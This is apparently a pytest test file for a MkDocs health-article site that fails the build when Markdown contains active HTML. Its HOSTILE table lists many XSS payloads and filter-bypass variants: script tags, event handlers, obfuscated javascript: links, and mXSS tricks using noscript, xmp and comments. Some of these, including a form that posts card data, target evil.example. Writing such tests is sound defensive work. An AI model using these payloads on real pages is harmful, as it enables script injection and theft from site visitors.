"""Articles cannot run code: active HTML in content/*.md fails the build with
file:line and a plain fix, however it is written; code shown as text is fine."""
from __future__ import annotations

import shutil

import markdown
import pytest
import yaml

from conftest import ROOT, ConfigLoader, mkdocs_build, project_copy
from scripts.build.active_html import problems

FRONT = """---
title: A page
description: A description that is long enough to be useful in a search result, honestly.
reviewed: 2026-11-20
reviewer: Physical therapist
review_due: 2027-05-20
---

# A page

Some text that is fine.

"""
FIRST_BODY_LINE = FRONT.count("\n") + 1


def render(source: str) -> str:
    """The article's HTML as the site makes it: the Markdown extensions of mkdocs.yml."""
    config = yaml.load((ROOT / "mkdocs.yml").read_text(encoding="utf-8"), Loader=ConfigLoader)
    names, options = [], {}
    for entry in config["markdown_extensions"]:
        name, settings = next(iter(entry.items())) if isinstance(entry, dict) else (entry, None)
        names.append(name)
        options[name] = settings or {}
    body = source.split("---\n", 2)[2]
    return markdown.Markdown(extensions=names, extension_configs=options).convert(body)


def found(body: str) -> list[str]:
    source = FRONT + body
    return [str(p) for p in problems(render(source), source, "content/x.md")]


HOSTILE = {
    "script": ("<script>alert(1)</script>", "<script>"),
    "script in capitals": ("<SCRIPT SRC=x></SCRIPT>", "<script>"),
    "script with a slash": ('<script/src="x"></script>', "<script>"),
    "script inside an svg": ("<svg><script>alert(1)</script></svg>", "<script>"),
    "onerror handler": ("<img src=x onerror=alert(1)>", '"onerror"'),
    "handler glued to a quote": ('<div><img src="x"onerror="alert(1)"></div>', '"onerror"'),
    "handler in md_in_html": ('<div markdown="1" onmouseover="alert(1)">**x**</div>', '"onmouseover"'),
    "handler from attr_list": ('A paragraph.\n{: onclick="alert(1)" }', '"onclick"'),
    "ontoggle on details": ("<details ontoggle=alert(1) open><summary>x</summary>y</details>", '"ontoggle"'),
    "javascript link": ("[click](javascript:alert(1))", '"javascript:"'),
    "javascript link, mixed case": ("[click](JaVaScRiPt:alert(1))", '"javascript:"'),
    "javascript reference link": ("[click][1]\n\n[1]: javascript:alert(1)", '"javascript:"'),
    "javascript with a tab entity": ('<a href="jav&#x09;ascript:alert(1)">x</a>', '"javascript:"'),
    "javascript as entities": ('<a href="&#106;avascript:alert(1)">x</a>', '"javascript:"'),
    "javascript after spaces": ('<a href=" javascript:alert(1)">x</a>', '"javascript:"'),
    "javascript in formaction": ('<button formaction="javascript:alert(1)">x</button>', '"javascript:"'),
    "vbscript link": ('<a href="vbscript:msgbox(1)">x</a>', '"vbscript:"'),
    "data image": ("![x](data:image/svg+xml;base64,PHN2Zz4=)", '"data:"'),
    "meta refresh": ('<meta http-equiv="refresh" content="0;url=https://evil.example">', "<meta>"),
    "iframe": ('<iframe src="https://evil.example"></iframe>', "<iframe>"),
    "iframe srcdoc": ('<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>', "<iframe>"),
    "object": ('<object data="x.swf"></object>', "<object>"),
    "embed": ('<embed src="x.swf">', "<embed>"),
    "form posting elsewhere": ('<form action="https://evil.example/steal"><input name="card"></form>', "<form>"),
    "style tag": ("<style>body{display:none}</style>", "<style>"),
    "style attribute": ('<p style="color:red">x</p>', '"style"'),
    "style from attr_list": ('A paragraph.\n{: style="display:none" }', '"style"'),
    "base": ('<base href="https://evil.example/">', "<base>"),
    "stylesheet from elsewhere": ('<link rel="stylesheet" href="https://evil.example/x.css">', "<link>"),
    "image from elsewhere": ('<img src="https://evil.example/track.png" alt="">', "another website"),
    "image from elsewhere without scheme": ('<img src="//evil.example/track.png" alt="">', "another website"),
    "srcset from elsewhere": ('<img srcset="https://evil.example/a.png 2x" alt="">', "another website"),
    "id of Material's own": ('<div id="__config"></div>', 'id="__config"'),
    "id of Material's palette": ('A paragraph.\n{: #__palette_0 }', 'id="__palette_0"'),
    "svg": ("<svg onload=alert(1)></svg>", "<svg>"),
    "math": ('<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>', "<math>"),
    "noscript hiding a tag": ('<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>', "<noscript>"),
    "xmp hiding a script": ("<xmp><!--</xmp><script>alert(1)</script>--></xmp>", "<xmp>"),
    "comment browsers end early": ("<!--> <script>alert(1)</script> -->", "comment"),
    "comment ending with --!>": ("<!-- x --!> <script>alert(1)</script> -->", "<script>"),
    "processing instruction": ("<?php <script>alert(1)</script> ?>", "<?php"),
    "cdata block": ("<![CDATA[ > <script>alert(1)</script> ]]>", "<![CDATA["),
}


@pytest.mark.parametrize("body, said", HOSTILE.values(), ids=HOSTILE.keys())
def test_active_html_is_refused_with_file_line_and_a_fix(body, said):
    messages = found(body)
    assert messages, f"not refused: {body!r}"
    assert any(said in m for m in messages), messages
    line = FIRST_BODY_LINE + body.count("\n")   # each case's active part is on its last line
    for message in messages:
        assert message.startswith(f"content/x.md:{line}:"), message
        assert len(message) < 400, message


def test_tag_left_open_at_the_end_is_refused():
    # Markdown passes it through; in the page it would swallow the markup that follows.
    [message] = found("<div><img src=x onerror=alert(1)//")
    assert message.startswith(f"content/x.md:{FIRST_BODY_LINE}:") and '"onerror"' in message


SAFE = {
    "script in backticks": "Never paste `<script>alert(1)</script>` into a page.",
    "script in a code block": "Example:\n\n    <script>alert(1)</script>\n    <img src=x onerror=alert(1)>",
    "note to editors": "<!-- check this with the physio team -->",
    "web, phone and email links": "[NHS](https://www.nhs.uk/) [call](tel:+441234567890) [mail](mailto:a@example.org)",
    "article link with a part": "[FAQ](../faq.md#can-i-run) and [top](#a-page)",
    "local image": "![A runner stretching](images/stretch.jpg)",
    "details and abbreviations": "<details><summary>More</summary>Rest.</details> <abbr title=\"kilometre\">km</abbr>",
    "angle brackets in text": "Rest if pain is > 3 out of 10 or lasts < 2 days.",
    "keyboard keys": "Press <kbd>Ctrl</kbd> and <kbd>P</kbd> to print.",
    "admonition": '!!! warning "Stop"\n    Call 999 if you have chest pain.',
    "ids of Markdown's own": '<input type="radio" name="__tabbed_1" id="__tabbed_1_1">',
}


@pytest.mark.parametrize("body", SAFE.values(), ids=SAFE.keys())
def test_ordinary_articles_pass(body):
    assert found(body) == []


def test_the_line_is_the_real_tag_not_the_one_shown_as_code():
    body = "Never type `<script>` into a page.\n\nReally:\n\n<script>alert(1)</script>\n"
    [message] = found(body)
    assert message.startswith(f"content/x.md:{FIRST_BODY_LINE + 4}:"), message


@pytest.mark.parametrize("href", ["\x01javascript:alert(1)", "\x00 java\nscript:alert(1)", "javascript\t:alert(1)"])
def test_addresses_are_read_as_browsers_read_them(href):
    # Browsers drop controls and spaces at the ends, and tabs and line breaks anywhere.
    [message] = [str(p) for p in problems(f'<a href="{href}">x</a>', "[x](y)", "content/x.md")]
    assert '"javascript:"' in message


def test_long_addresses_are_quoted_short():
    [message] = found(f"[click](javascript:{'x' * 5000})")
    assert len(message) < 400 and "…" in message


def test_active_html_fails_the_build_naming_every_article_and_line(tmp_path):
    project = project_copy(tmp_path)
    shutil.copy(ROOT / "tests" / "fixtures" / "articles" / "active-html.md", project / "content" / "active-html.md")
    result = mkdocs_build(project / "mkdocs.yml", tmp_path / "out")
    output = result.stdout + result.stderr
    assert result.returncode != 0 and "Traceback" not in output
    for line, said in ((11, "<script>"), (13, '"onerror"'), (15, '"javascript:"'), (17, "<meta>"), (19, "<form>")):
        assert f"content/active-html.md:{line}: " in output and said in output, (line, output)
    assert "content/active-html.md:21:" not in output   # the <script> shown in backticks


@pytest.mark.parametrize("hidden", ["\u2028", "\u2029", "\x85"], ids=["U+2028", "U+2029", "U+0085"])
def test_a_hidden_line_break_does_not_shift_the_line_reported(hidden):
    # Editors and GitHub do not break a line at these; the line must be the one they show.
    body = f"A sentence pasted from a web page,{hidden}with a hidden break.\n\n<script>alert(1)</script>\n"
    [message] = found(body)
    assert message.startswith(f"content/x.md:{FIRST_BODY_LINE + 2}:"), message
